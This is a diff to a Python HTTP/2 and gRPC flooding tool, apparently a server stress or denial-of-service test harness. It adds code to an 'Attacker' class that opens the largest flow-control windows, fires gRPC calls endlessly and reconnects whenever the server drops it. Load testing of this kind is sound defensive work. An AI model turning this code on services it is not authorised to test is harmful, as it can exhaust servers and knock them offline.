@@ -20,6 +20,8 @@ END_STREAM, END_HEADERS = 1, 4
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _CANCEL = struct.pack(">I", 8)
 _CHUNK = 16_000
+_INITIAL_WINDOW_SIZE = b"\0\4"
+_LARGEST_WINDOW = 2**31 - 1
 _SECONDS = 5.0
 """After which a write that the server does not take ends a connection."""
 
@@ -56,6 +58,7 @@ class RawConnection:
         self.window = self.initial = 65_535
         self.windows: dict[int, int] = {}
         self.open = True
+        self._ends: dict[int, asyncio.Future[None]] = {}
         self._reading = asyncio.ensure_future(self._read())
         self._writer.write(_PREFACE + frame(SETTINGS, 0, 0))
 
@@ -109,6 +112,18 @@ class RawConnection:
         await self.send(frame(DATA, 0, number, data[:count]))
         return count
 
+    def take_all_answers(self) -> None:
+        """Let the server send answers without waiting for this side."""
+        most = _LARGEST_WINDOW.to_bytes(4, "big")
+        self._writer.write(frame(SETTINGS, 0, 0, _INITIAL_WINDOW_SIZE + most))
+        self._writer.write(frame(WINDOW_UPDATE, 0, 0, (_LARGEST_WINDOW - 65_535).to_bytes(4, "big")))
+
+    async def end_of(self, number: int) -> None:
+        """Return when a call has been answered or reset, or the connection has ended."""
+        if self.open:
+            ended = self._ends[number] = asyncio.get_running_loop().create_future()
+            await ended
+
     async def close(self) -> None:
         self.open = False
         self._writer.transport.abort()
@@ -128,14 +143,23 @@ class RawConnection:
                     self._take_in(kind, flags, stream, payload)
         self.open = False
         self._seen.ends[reason] += 1
+        for number in list(self._ends):
+            self._end(number)
+
+    def _end(self, number: int) -> None:
+        ended = self._ends.pop(number, None)
+        if ended is not None and not ended.done():
+            ended.set_result(None)
 
     def _take_in(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
         if kind == HEADERS:
             found = dict(self._decoder.decode(payload))
             if "grpc-status" in found:
                 self._seen.statuses[found["grpc-status"]] += 1
+                self._end(stream)
         elif kind == RST_STREAM:
             self.windows.pop(stream, None)
+            self._end(stream)
             self._seen.resets += 1
         elif kind == WINDOW_UPDATE:
             more = int.from_bytes(payload, "big")
@@ -169,6 +193,23 @@ class Attacker:
                     try:
                         while time.monotonic() < until:
                             await connection.send(b"".join(step(connection) for _ in range(batch)))
+                    finally:
+                        await connection.finish()
+                await asyncio.sleep(0)
+
+        await asyncio.gather(*(one() for _ in range(connections)))
+
+    async def keep(self, connections: int, fill: Callable[[RawConnection], Awaitable[None]]) -> None:
+        """Do the same on each connection, and connect again when the server ends it."""
+        until = time.monotonic() + self.seconds
+
+        async def one() -> None:
+            while time.monotonic() < until:
+                with suppress(OSError, ssl.SSLError, TimeoutError):
+                    connection = await RawConnection.connect(self.address, self.context, self.seen)
+                    try:
+                        async with asyncio.timeout(max(0.1, until - time.monotonic())):
+                            await fill(connection)
                     finally:
                         await connection.finish()
                 await asyncio.sleep(0)
@@ -250,6 +291,30 @@ def open_streams(path: str, streams: int, request: bytes) -> Callable[[RawConnec
             await connection.send(opened + frame(DATA, END_STREAM, number, message(request)))
 
     return fill
+
+
+def call_repeatedly(path: str, at_once: int, make: Callable[[], bytes]) -> Callable[[RawConnection], Awaitable[None]]:
+    """Make whole calls, some at once, each with a request of its own."""
+
+    async def fill(connection: RawConnection) -> None:
+        connection.take_all_answers()
+        await asyncio.gather(*(_call_for_ever(connection, path, make) for _ in range(at_once)))
+
+    return fill
+
+
+async def _call_for_ever(connection: RawConnection, path: str, make: Callable[[], bytes]) -> None:
+    while connection.open:
+        number, opened = connection.headers(path, ("grpc-timeout", "20S"))
+        left = message(make())
+        await connection.send(opened)
+        while left and connection.open and number in connection.windows:
+            count = await connection.send_within_windows(number, left[:_CHUNK])
+            left = left[count:]
+            await asyncio.sleep(0 if count else 0.005)
+        if not left:
+            await connection.send(frame(DATA, END_STREAM, number))
+            await connection.end_of(number)
 
 
 def large_metadata(path: str, *sizes: int) -> Callable[[RawConnection], Awaitable[None]]:
